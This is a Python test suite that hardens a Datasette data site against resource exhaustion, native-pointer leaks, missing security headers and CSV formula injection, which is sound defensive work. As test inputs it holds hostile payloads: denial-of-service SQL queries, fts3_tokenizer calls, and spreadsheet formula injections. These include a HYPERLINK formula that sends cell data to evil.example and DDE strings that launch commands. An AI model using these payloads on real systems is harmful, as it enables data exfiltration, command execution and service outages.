"""Issue 15: no request can exhaust the server. Hostile queries through the real Datasette app, as
`make serve` configures it, and the plugins' own bounds (sql_limits, vn_search, private_pages)."""
import asyncio
import importlib.util
import os
import resource
import shutil
import subprocess
import time
import urllib.request

import pytest
import yaml
from datasette.app import Datasette

from conftest import ROOT
from db.serving import free_port


def plugin(name):
    spec = importlib.util.spec_from_file_location(name, ROOT / "plugins" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def get(ds, path, **kwargs):
    return asyncio.run(ds.client.get(path, **kwargs))


def sql(ds, text):
    started = time.monotonic()
    response = get(ds, "/minhbach.json", params={"sql": text})
    return response, time.monotonic() - started


def rss_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


# ---------------------------------------------------------------- item 1: what one query may allocate

@pytest.mark.parametrize("text", [
    "select randomblob(1000000000)",
    "select hex(randomblob(400000000))",
    "select printf('%.*c', 1000000000, 'x')",
    "select format('%1000000000d', 1)",
    "select zeroblob(1000000000)",
    "with recursive r(s, n) as (select 'x', 0 union all select s || s, n + 1 from r where n < 40) "
    "select length(s) from r",
])
def test_one_huge_value_is_refused_at_once(datasette, text):
    before = rss_mb()
    response, seconds = sql(datasette, text)
    assert response.status_code == 400, response.text[:300]
    assert response.json()["ok"] is False and response.json()["error"]
    assert seconds < 1.5, seconds                       # within the time limit, not 12 s
    assert rss_mb() - before < 100                      # not gigabytes
    assert len(response.content) < 10_000


def test_many_large_rows_are_cut_off_with_a_clear_message(datasette):
    # 1,000 rows of 1 MB each: every value is allowed, the whole result is not.
    response, _ = sql(datasette, "with recursive n(i) as (select 1 union all select i + 1 from n where i < 1000) "
                                 "select randomblob(1000000) from n")
    assert response.status_code == 400
    assert "too large" in response.json()["error"]
    assert len(response.content) < 10_000


def test_ordinary_printf_and_values_still_work(datasette):
    response, _ = sql(datasette, "select printf('%d-%s %.2f %5.1f%%', 3, 'ab', 1.234, 2.0), printf('%.*c', 3, 'x'), "
                                 "length(randomblob(100000)), (select count(*) from recalls) > 0")
    assert response.status_code == 200, response.text
    assert response.json()["rows"] == [["3-ab 1.23   2.0%", "xxx", 100000, 1]]


def test_the_time_limit_still_holds_for_a_long_loop(datasette):
    response, seconds = sql(datasette, "with recursive n(i) as (select 1 union all select i + 1 from n "
                                       "where i < 1000000000) select count(*) from n")
    assert response.status_code == 400 and "time limit" in response.text.lower()
    assert seconds < 5


# ---------------------------------------------------------------- item 2: a search is a few words

@pytest.mark.parametrize("path, name", [("/minhbach/search", "q"), ("/minhbach/search.json", "q"),
                                        ("/minhbach/violations.json", "_search")])
def test_an_overlong_search_is_refused_quickly_with_a_reason(datasette, path, name):
    started = time.monotonic()
    response = get(datasette, path, params={name: " ".join(["a"] * 25_000)})
    assert time.monotonic() - started < 1
    assert response.status_code == 400
    assert "too long" in response.text and "quá dài" in response.text
    assert "content-security-policy" in response.headers
    # 13 words is over the cap, 12 is not.
    assert get(datasette, path, params={name: " ".join(["sua"] * 13)}).status_code == 400
    assert get(datasette, path, params={name: " ".join(["sua"] * 12)}).status_code == 200


def test_a_normal_search_is_not_capped(datasette):
    response = get(datasette, "/minhbach/search.json", params={"q": "nước mắm Phú Quốc", "_shape": "array"})
    assert response.status_code == 200


def test_the_cap_counts_words_after_folding():
    vn_search = plugin("vn_search")
    assert not vn_search.too_long("Công ty TNHH Thực phẩm Đà Nẵng")
    assert vn_search.too_long("x" * (vn_search.MAX_QUERY_CHARS + 1))
    assert vn_search.too_long(" ".join(["a"] * (vn_search.MAX_QUERY_TERMS + 1)))


# ---------------------------------------------------------------- item 3: the word cache of db/fold.py

def test_the_fold_word_cache_keeps_no_long_words():
    from vn import fold
    fold._WORDS.clear()
    long_words = " ".join(f"{'x' * 5000}{i}" for i in range(50))
    assert fold.fold(long_words) == long_words
    assert fold.fold("Đà Nẵng") == "da nang"
    assert all(len(word) <= fold._MAX_CACHED_WORD for word in fold._WORDS)
    assert {"Đà", "Nẵng"} <= set(fold._WORDS)


def test_the_schema_answers_kept_for_an_immutable_file_are_bounded(datasette):
    """Any URL can name a table: plugins/immutable_schema.py keeps at most MAX_ENTRIES answers per
    database, none for an overlong name, and still answers each question right."""
    limits = plugin("immutable_schema")
    db = datasette.get_database("minhbach")

    async def ask():
        unknown = [await db.table_exists(f"no_such_table_{i}") for i in range(limits.MAX_ENTRIES + 500)]
        return unknown, await db.table_exists("x" * 100_000), await db.table_exists("recalls")
    unknown, overlong, known = asyncio.run(ask())
    assert not any(unknown) and overlong is False and known is True
    memo = db.__dict__["_immutable_schema"]
    assert 0 < len(memo) <= limits.MAX_ENTRIES
    assert all(len(repr(key)) <= limits.MAX_KEY_CHARS for key in memo)


# ---------------------------------------------------------------- item 5: no native pointers, paths, threads

@pytest.mark.parametrize("text", ["select fts3_tokenizer('simple')",
                                  "select fts3_tokenizer('simple', x'0000000000000000')",
                                  "select hex(FTS3_TOKENIZER('porter'))"])
def test_fts3_tokenizer_is_refused(datasette, text):
    response, _ = sql(datasette, text)
    assert response.status_code == 400 and "not authorized" in response.json()["error"]


def test_the_database_path_is_not_public(datasette, demo_db):
    response, _ = sql(datasette, "select * from pragma_database_list()")
    assert response.status_code == 200 and str(demo_db) not in response.text
    assert response.json()["rows"] == [[0, "main", None]]
    for path in ("/-/databases", "/-/databases.json", "/-/threads", "/-/threads.json"):
        response = get(datasette, path)
        assert response.status_code == 404, path
        assert str(demo_db) not in response.text
    # Datasette's own use of `PRAGMA database_list` (attached databases) still works.
    (rows,) = [asyncio.run(datasette.get_database("minhbach").attached_databases())]
    assert rows == []


# ---------------------------------------------------------------- item 6: every answer has the headers

def test_a_405_carries_the_security_headers(datasette):
    response = asyncio.run(datasette.client.post("/minhbach/search", data={"q": "x"}))
    assert response.status_code == 405
    assert "default-src 'self'" in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"


def test_the_map_json_has_cors_like_the_rest_of_the_api(demo_db):
    ds = Datasette([], immutables=[str(demo_db)], metadata=yaml.safe_load((ROOT / "metadata.yml").read_text()),
                   plugins_dir=str(ROOT / "plugins"), settings={"suggest_facets": False}, cors=True)
    for path in ("/minhbach/recalls.json?_size=1", "/-/map/violations.json?zoom=5"):
        response = get(ds, path)
        assert response.status_code == 200, path
        assert response.headers["access-control-allow-origin"] == "*", path


# ---------------------------------------------------------------- item 7: one control socket per instance

@pytest.mark.slow   # starts Gunicorn servers
def test_each_served_instance_has_its_own_gunicorn_control_socket(demo_db, tmp_path):
    db = tmp_path / "minhbach.db"
    shutil.copy(demo_db, db)
    runtime = tmp_path / "tmp"
    runtime.mkdir()
    env = {**os.environ, "TMPDIR": str(runtime), "XDG_RUNTIME_DIR": str(tmp_path), "HOME": str(tmp_path)}
    first = free_port()
    servers, ports = [], [first, free_port(avoid={first})]
    try:
        for port in ports:
            servers.append(subprocess.Popen(["make", "--no-print-directory", "serve", f"DB={db}", f"PORT={port}",
                                             "WORKERS=1"], cwd=ROOT, env=env, start_new_session=True,
                                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        for port in ports:
            for _ in range(300):
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/-/versions.json", timeout=2)
                    break
                except OSError:
                    time.sleep(0.1)
            else:
                pytest.fail(f"make serve on port {port} did not answer")
        sockets = sorted(runtime.glob("minhbach-gunicorn.*/gunicorn.ctl"))
        assert len(sockets) == 2 and sockets[0] != sockets[1]
        assert not (tmp_path / "gunicorn.ctl").exists() and not (tmp_path / ".gunicorn").exists()
    finally:
        for server in servers:
            os.killpg(server.pid, 15)
            server.wait(timeout=30)


# ---------------------------------------------------------------- errors are answered, not rendered

def test_an_error_answer_is_cheap_and_prints_no_locals(datasette, capfd):
    get(datasette, "/minhbach/nope")          # warm up
    capfd.readouterr()
    started = time.monotonic()
    for i in range(20):
        assert get(datasette, f"/minhbach/nope-{i}").status_code == 404
        assert sql(datasette, "select * from nowhere")[0].status_code == 400
    assert time.monotonic() - started < 5     # was 1-6 s per error, rendering every frame's locals
    assert "╭" not in capfd.readouterr().err


# ---------------------------------------------------------------- item 13: CSV exports run no formula

def test_csv_exports_neutralise_formula_cells_but_not_negative_numbers(published, tmp_path):
    import csv
    import io

    from conftest import SAMPLES, run_db
    rows = list(csv.reader(io.StringIO((SAMPLES / "vn_news_violations.csv").read_text(encoding="utf-8-sig"),
                                       newline="")))
    name = rows[0].index("Tên cơ sở")
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0"]
    for row, value in zip(rows[1:], hostile):
        row[name] = value
    path = tmp_path / "hostile.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)
    run_db("ingest", f"vn_news_violations={path}", db=published)

    ds = Datasette([], immutables=[str(published)], metadata=yaml.safe_load((ROOT / "metadata.yml").read_text()),
                   plugins_dir=str(ROOT / "plugins"), settings={"suggest_facets": False})
    for url in ("/minhbach/violations.csv?_size=max&source=vn_news_violations",
                "/minhbach/violations.csv?_stream=on&source=vn_news_violations"):
        response = get(ds, url)
        assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
        exported = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        (count,), = asyncio.run(ds.get_database("minhbach").execute(
            "select count(*) from violations where source = 'vn_news_violations'")).rows
        assert len(exported) == count      # every row, the 4 renamed ones' old versions (withdrawn) too
        names = {r["establishment"] for r in exported}
        assert {"'" + value for value in hostile} <= names
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in exported for v in r.values()
                       if v and not v.lstrip("-").replace(".", "", 1).isdigit())
    # Negative numbers are numbers, not formulas: the UK longitudes come out exactly as stored.
    stored = {str(lon) for (lon,) in asyncio.run(ds.get_database("minhbach").execute(
        "select longitude from violations where longitude < 0")).rows}
    assert stored
    response = get(ds, "/minhbach/violations.csv?_size=max&_col=longitude&longitude__lt=0")
    exported = {r["longitude"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))}
    assert exported == stored and all(v.startswith("-") for v in exported)


def test_the_formula_filter_works_on_any_chunking_and_keeps_clean_rows_byte_for_byte():
    import csv
    import io
    csv_bom = plugin("csv_bom")
    rows = [["id", "text", "lon"], ["1", '=HYPERLINK("http://x","a")', "-105.85"], ["2", "multi\nline\n=x", "-1e5"],
            ["3", "+cmd|' /C calc'!A0", "@SUM(A1)"], ["4", "\tx", "\rcr"], ["5", "a, \"quoted\"", "12"], ["6", "-", "+5"]]
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    text = out.getvalue()
    expected = [[csv_bom.neutralise(cell) for cell in row] for row in rows]
    assert expected[1][1].startswith("'=") and expected[1][2] == "-105.85" and expected[2][2] == "-1e5"
    assert expected[4] == ["4", "'\tx", "'\rcr"] and expected[6] == ["6", "'-", "+5"]
    for size in (1, 2, 5, 13, len(text)):
        chunks = [text[i:i + size] for i in range(0, len(text), size)]
        cleaned = csv_bom.FormulaFilter()
        result = "".join(cleaned.feed(chunk) for chunk in chunks) + cleaned.feed("", final=True)
        assert list(csv.reader(io.StringIO(result, newline=""))) == expected, size
        assert result.splitlines()[0] == text.splitlines()[0] and "5,\"a, \"\"quoted\"\"\",12" in result


def test_arbitrary_sql_runs_one_query_at_a_time_and_a_long_wait_gets_a_429(datasette, monkeypatch):
    from datasette.plugins import pm
    sql_limits = next(m for m in pm.get_plugins() if getattr(m, "__file__", "") and m.__file__.endswith("sql_limits.py"))
    monkeypatch.setattr(sql_limits, "SQL_QUEUE_SECONDS", 0.5)
    slow = ("with recursive n(i) as (select 1 union all select i + 1 from n where i < 1000000000) "
            "select count(*) from n")

    async def both():
        return await asyncio.gather(datasette.client.get("/minhbach.json", params={"sql": slow}),
                                    datasette.client.get("/minhbach.json", params={"sql": "select 1"}))
    first, second = asyncio.run(both())
    assert first.status_code == 400 and "time limit" in first.text.lower()
    assert second.status_code == 429 and "busy" in second.text
    assert second.headers["retry-after"] == "5"
    assert get(datasette, "/minhbach.json", params={"sql": "select 1"}).status_code == 200   # the lock is free again
    assert get(datasette, "/minhbach/recalls.json?_size=1").status_code == 200                # pages never wait


# ---------------------------------------------------------------- pages keep their pace under load

def test_what_carries_a_query():
    carries_query = plugin("admission").carries_query
    for query in (b"q=sua", b"_search=x", b"_search_name=x", b"sql=select+1", b"province_code=48",
                  b"_size=5&establishment=abc", b"_where=id%3D1", b"lang=en&q=a"):
        assert carries_query(query), query
    for query in (b"", b"_size=20", b"_next=abc&_size=5", b"_shape=array", b"lang=en", b"_facet=source",
                  b"_sort_desc=decided&_size=0"):
        assert not carries_query(query), query


def test_a_page_is_served_while_queries_wait_their_turn_and_a_long_wait_gets_a_429(demo_db, monkeypatch):
    """num_sql_threads 2 -> one query slot: a slow SQL query holds it; a search waits (429 past
    QUEUE_SECONDS); a table page and a record page are answered meanwhile, before the slow query ends."""
    from datasette.plugins import pm

    from db.serving import datasette_kwargs
    admission = next(m for m in pm.get_plugins() if getattr(m, "__file__", "") and m.__file__.endswith("admission.py"))
    monkeypatch.setattr(admission, "QUEUE_SECONDS", 0.3)
    monkeypatch.setenv("MINHBACH_CACHE_MB", "0")
    kwargs = datasette_kwargs(ROOT)
    kwargs["settings"] = {**kwargs["settings"], "num_sql_threads": 2}
    ds = Datasette([], immutables=[str(demo_db)], **kwargs)
    slow = ("with recursive n(i) as (select 1 union all select i + 1 from n where i < 1000000000) "
            "select count(*) from n")
    record = asyncio.run(ds.client.get("/minhbach/recalls.json?_size=1&_shape=objects")).json()["rows"][0]["id"]
    finished = {}

    async def timed(name, path, **kwargs):
        response = await ds.client.get(path, **kwargs)
        finished[name] = time.monotonic()
        return response

    async def run():
        slow_one = asyncio.create_task(timed("sql", "/minhbach.json", params={"sql": slow}))
        await asyncio.sleep(0.2)      # the slow query has its slot
        return await asyncio.gather(slow_one, timed("search", "/minhbach/recalls.json?_search=sua"),
                                    timed("page", "/minhbach/violations.json?_size=3"),
                                    timed("record", f"/minhbach/recalls/{record}.json"))
    sql_answer, search, page, row = asyncio.run(run())
    assert sql_answer.status_code == 400 and "time limit" in sql_answer.text.lower()
    assert search.status_code == 429 and search.headers["retry-after"] == "5" and "busy" in search.text
    assert page.status_code == 200 and row.status_code == 200
    assert finished["page"] < finished["sql"] and finished["record"] < finished["sql"]
    again = asyncio.run(ds.client.get("/minhbach/recalls.json?_search=sua"))    # the slot is free again
    assert again.status_code == 200 and again.json()["rows"]


def test_one_computation_per_url_at_a_time(datasette):
    """Requests for a URL being computed wait for it: one miss, the others are hits of the same bytes."""
    path = "/minhbach/violations.json?_size=7&_sort_desc=decided"

    async def together():
        return await asyncio.gather(*(datasette.client.get(path) for _ in range(5)))
    answers = asyncio.run(together())
    assert sorted(a.headers["x-minhbach-cache"] for a in answers) == ["hit"] * 4 + ["miss"]
    assert len({a.content for a in answers}) == 1 and answers[0].status_code == 200


def test_a_worker_renders_its_pages_before_it_says_it_is_ready(demo_db):
    """The ASGI lifespan startup (what uvicorn sends a worker) warms every page listed in metadata.yml:
    after it, each is already in the response cache."""
    from db.serving import datasette_kwargs
    ds = Datasette([], immutables=[str(demo_db)], **datasette_kwargs(ROOT))
    listed = ds.plugin_config("warm-pages")["paths"]
    app, sent = ds.app(), []

    async def startup():
        messages = iter([{"type": "lifespan.startup"}])

        async def receive():
            try:
                return next(messages)
            except StopIteration:
                await asyncio.sleep(3600)

        async def send(message):
            sent.append(message["type"])
            if message["type"] == "lifespan.startup.complete":
                raise asyncio.CancelledError
        try:
            await app({"type": "lifespan", "asgi": {"version": "3.0"}}, receive, send)
        except asyncio.CancelledError:
            pass
        return [await ds.client.get(path) for path in listed]
    answers = asyncio.run(startup())
    assert sent == ["lifespan.startup.complete"]
    assert [a.headers.get("x-minhbach-cache") for a in answers] == ["hit"] * len(listed)
